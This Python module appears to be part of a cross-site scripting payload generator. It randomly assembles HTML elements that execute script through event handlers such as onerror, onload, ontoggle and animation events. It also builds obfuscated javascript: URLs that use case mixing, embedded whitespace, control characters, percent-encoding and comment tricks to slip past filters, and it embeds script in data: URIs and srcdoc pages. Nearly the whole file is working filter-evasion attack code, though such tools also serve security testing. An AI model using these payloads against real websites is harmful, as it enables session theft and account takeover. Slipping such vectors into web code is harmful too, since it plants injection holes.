"""Elements that run a script: which element, which event or address. Each is (tag, attributes, what follows the tag, what goes before)."""

import base64

from mutants_dice import Dice

BY_HAND = """click dblclick auxclick contextmenu mousedown mouseup mousemove mouseover mouseout mouseenter mouseleave wheel pointerdown
pointerup pointermove pointerover pointerout pointerenter pointerleave pointerrawupdate gotpointercapture touchstart touchend touchmove
copy cut paste beforecopy drag dragstart dragend dragenter dragover drop selectstart mousewheel""".split()
MEDIA = """canplay canplaythrough durationchange loadeddata loadedmetadata play playing progress suspend timeupdate ended
waiting""".split()
WINDOW = """load pageshow hashchange resize message popstate beforeunload unload beforeprint focus scroll pagehide online storage blur
click""".split()
BLOCKS = """div p article aside center h1 li ul section blockquote nav header footer details fieldset form pre dl address xmp listing img
video iframe object textarea input button select marquee""".split()
ANY = """b i p div span a abbr article aside xss x-y custom-tag font center h1 h3 li ul table td section q s u em strong marquee
blockquote nav main header footer summary details label fieldset legend form button input textarea select svg math mark output meter
video img object canvas pre code tt big acronym hr dl address progress menu bdo ruby slot search data time xmp listing nobr blink applet
dir image iframe embed g text""".split()
BIG = ("style", "position:fixed;top:0;left:0;width:9999px;height:9999px")


class Elements(Dice):
    def by_event(self, script):
        make = self.one(
            *[self.by_loading] * 4,
            *[self.by_media, self.by_focus, self.by_hand] * 2,
            self.by_style,
            self.by_form,
            self.by_moving,
        )
        return make(lambda *events: ("on" + self.one(*events), script))

    def by_loading(self, on):
        src = self.one("x", "x", "1", "", "//", "a.png", "x:x", "data:,", "/x", "#", "?", "valid.jpg")
        picture = self.one("/favicon.ico", "data:image/gif;base64,R0lGODlhAQABAAAAACw=", "https://site.example/a.png")
        return self.one(
            ("img", [("src", src), on("error")], "", ""),
            ("img", [("src", src), on("error")], "", ""),
            ("image", [("src", src), on("error")], "", ""),
            ("img", [self.one(("srcset", "x"), ("src", "")), on("error")], "", ""),
            ("img", [("src", picture), on("load")], "", ""),
            ("svg", [on("load")], "", ""),
            ("svg", [on("load")], "</svg>", ""),
            ("svg", [on("load")], "", self.one("<svg>", "<svg><g>", "<svg><desc>", "<math><mtext>")),
            ("image", [(self.one("href", "xlink:href"), "x"), on("error", "load")], "", "<svg>"),
            ("style", [on("load")], "</style>", self.one("", "<svg>")),
            ("body", [on(*WINDOW)], "", ""),
            ("body", [on(*WINDOW)], "", ""),
            ("iframe", [on("load")] + self.one([], [("src", src)]), self.one("", "</iframe>"), ""),
            ("object", [("data", "x"), on("error", "load")], "", ""),
            ("embed", [("src", "x"), on("load")], "", ""),
            ("link", [("rel", "stylesheet"), ("href", "x"), on("error", "load")], "", ""),
            ("script", [("src", "x"), on("error")], "</script>", ""),
            ("input", [("type", "image"), ("src", "x"), on("error")], "", ""),
        )

    def by_media(self, on):
        tag = self.one("video", "audio")
        sound = self.one("/a.mp4", "https://site.example/a.ogg", "data:audio/wav;base64,UklGRiQAAABXQVZF", "a.wav")
        return self.one(
            (tag, [("src", self.one("x", "1", "/")), on("error", "loadstart", "emptied")], "", ""),
            (tag, [("src", sound), ("autoplay", None), on(*MEDIA)], "", ""),
            (tag, [("autoplay", None), on(*MEDIA)], "<source src=%s>" % sound, ""),
            (tag, [("controls", None), ("src", sound), on("pause", "volumechange", "seeking", "seeked", "ratechange")], "", ""),
            ("source", [on("error")] + self.one([], [("src", "x")]), "", self.one("<video>", "<audio>", "<video controls>")),
        )

    def by_moving(self, on):
        smil = self.one("animate", "set", "animateTransform", "animateMotion")
        return self.one(
            (smil, [on("begin", "end"), ("attributeName", "x"), ("dur", "1s")], "", self.one("<svg>", "<svg><a>", "<svg><rect>")),
            (smil, [on("repeat"), ("attributeName", "x"), ("dur", "1s"), ("repeatCount", "2")], "", "<svg>"),
            ("marquee", [on("start")], "x", ""),
            ("marquee", [on("finish"), ("loop", "1"), ("width", "0")], "x", ""),
            ("marquee", [on("bounce"), ("behavior", "alternate"), ("width", "0")], "x", ""),
            ("details", [("open", None), on("toggle")], "", ""),
            ("details", [on("toggle")], "<summary>x", ""),
            (self.one(*ANY[:12]), [("popover", None), on("toggle", "beforetoggle"), ("id", "x")], "<button popovertarget=x>y", ""),
        )

    def by_focus(self, on):
        focus = on("focus", "focus", "focus", "focusin", "blur", "focusout", "keydown", "keyup", "keypress")
        start = self.one([], [("autofocus", None)], [("autofocus", None), ("id", "x")])
        return self.one(
            (self.one("input", "textarea", "select", "button", "iframe"), [("autofocus", None), focus], "", ""),
            (self.one("a", "area"), [("href", "x"), focus], "x", ""),
            (self.one(*ANY), [("tabindex", self.one("1", "0", "-1")), focus] + start, "x", ""),
            (self.one(*ANY), [("contenteditable", self.one(None, "true")), focus] + start, "x", ""),
        )

    def by_style(self, on):
        name = self.one("x", "spin", "a")
        animation = self.one("animation-name:%s", "animation:%s 1s", "-webkit-animation:1s %s", "animation: 1s %s;color:red") % name
        block = self.one("display:block;content-visibility:auto", "content-visibility:auto;display:block")
        seen = on("contentvisibilityautostatechange")
        moved = on("transitionend", "transitionrun", "transitionstart")
        return self.one(
            ("xss", [("id", "x"), ("style", "transition:outline 1s"), ("tabindex", "1"), moved], "", ""),
            (
                self.one(*ANY),
                [("style", animation), on("animationstart", "animationend", "webkitanimationend")],
                "",
                "<style>@keyframes %s{}</style>" % name,
            ),
            (self.one(*BLOCKS), [("style", "content-visibility:auto"), seen], "", ""),
            (self.one(*ANY), [("style", block), seen], "", ""),
            (self.one(*BLOCKS), [("style", "overflow:auto;height:9px"), on("scroll", "scrollend")], "x<br><br><br>y", ""),
        )

    def by_form(self, on):
        return self.one(
            ("form", [on("submit", "reset", "formdata", "input", "change")], self.one("<input><input type=submit>", "<button>x"), ""),
            (self.one("input", "textarea"), [on("input", "change", "beforeinput", "select")], "", ""),
            ("select", [on("change", "input")], "<option>x<option>y", ""),
            ("input", [("required", None), on("invalid")], "<input type=submit>", "<form>"),
            (self.one(*ANY), [("contenteditable", None), on("input", "beforeinput")], "x", ""),
        )

    def by_hand(self, on):
        return self.one(
            (self.one(*ANY), [on(*BY_HAND)], self.one("x", "", "click me"), ""),
            (self.one(*ANY), [on(*BY_HAND)], self.one("x", "", "click me"), ""),
            (self.one(*ANY), [on(*BY_HAND), ("draggable", "true"), BIG], "x", ""),
        )

    def url(self, script):
        """The address `javascript:`, as browsers still read it."""
        if self.chance(0.4):
            return "javascript:" + script
        self.used.append("scheme")
        scheme = "".join(self.one(c.upper(), c) for c in "javascript") if self.chance(0.4) else "javascript"
        if self.chance(0.4):
            at = self.dice.randrange(1, len(scheme))
            scheme = scheme[:at] + self.one("\t", "\n", "\r\n", "\t\t") + scheme[at:]
        before = self.one("", "", "", " ", "\n", "\t", "\x01", "\x1f", "\x0c ", "  ")
        colon = self.one(":", ":", ":", "\t:", "\n:")
        slashes = self.one("//%0a", "//x%0d", "//evil.example/%0A", "//%E2%80%A8", "//a@b?%0a", "/**/", "/*x*/", "/**//**/")
        rest = self.one("", "", "", slashes, slashes, slashes, " ", "%20", ";", "void ", "\t", "1;", "1,", "'x';", "%0a", "x:", "!")
        if self.chance(0.05):
            script = self.one("'<script>%s</script>'", "`<svg onload=%s>`", '"<img src onerror=%s>"').replace("%s", script)
        if self.chance(0.2):
            script = "".join("%%%02x" % ord(c) if ord(c) < 128 and self.chance(0.3) else c for c in script)
        return before + scheme + colon + rest + script

    def by_address(self, script):
        url = self.url(script)
        href = self.one("href", "xlink:href")
        return self.one(
            ("a", [("href", url)], "x", ""),
            ("a", [("href", url), ("target", "_blank")], "x</a>", ""),
            ("area", [("href", url), ("shape", "default")], "", "<img usemap=#x><map name=x>"),
            (self.one("iframe", "embed"), [("src", url)], "", ""),
            ("frame", [("src", url)], "", "<frameset>"),
            ("object", [("data", url)], "", ""),
            ("form", [("action", url)], self.one("<input type=submit>", "<button>x", "<input type=image>"), ""),
            ("button", [("formaction", url)] + self.one([], [("type", "submit")]), "x", "<form>"),
            ("input", [("type", self.one("submit", "image")), ("formaction", url)], "", "<form>"),
            ("button", [("form", "x"), ("formaction", url)], "x", "<form id=x></form>"),
            ("a", [(href, url)], self.one("<text y=9>x", "<circle r=400>", "<rect width=9 height=9 />"), "<svg>"),
            ("set", [("attributeName", href), ("to", url)], "", self.one("<svg><a>", "<svg><a xlink:href=#>")),
            ("animate", [("attributeName", href), ("values", url.replace(";", ","))], "", "<svg><a>"),
        )

    def by_page(self, script):
        """A page within the page."""
        inside = self.one("<script>%s</script>", "<img src=x onerror=%s>", "<svg onload=%s>", "<svg/onload=%s>", "<body onload=%s>")
        page = inside.replace("%s", script)
        kind = self.one("text/html", "text/html", "text/html;charset=utf-8", "text/HTML", "image/svg+xml")
        if kind == "image/svg+xml":
            page = '<svg xmlns="http://www.w3.org/2000/svg"' + self.one(' onload="%s"/>', "><script>%s</script></svg>") % script
        data = self.one(
            lambda: "data:%s,%s" % (kind, page),
            lambda: "data:%s;base64,%s" % (kind, base64.b64encode(page.encode()).decode()),
            lambda: "data:%s,%s" % (kind, "".join(c if c.isalnum() else "%%%02x" % b for c in page for b in c.encode())),
        )()
        return self.one(
            ("iframe", [("srcdoc", page)], "", ""),
            ("iframe", [("srcdoc", page)], "x", ""),
            ("iframe", [("srcdoc", page)], "</iframe>", ""),
            ("iframe", [("src", data)], "", ""),
            ("object", [("data", data)], "", ""),
            ("embed", [("src", data)], "", ""),
        )
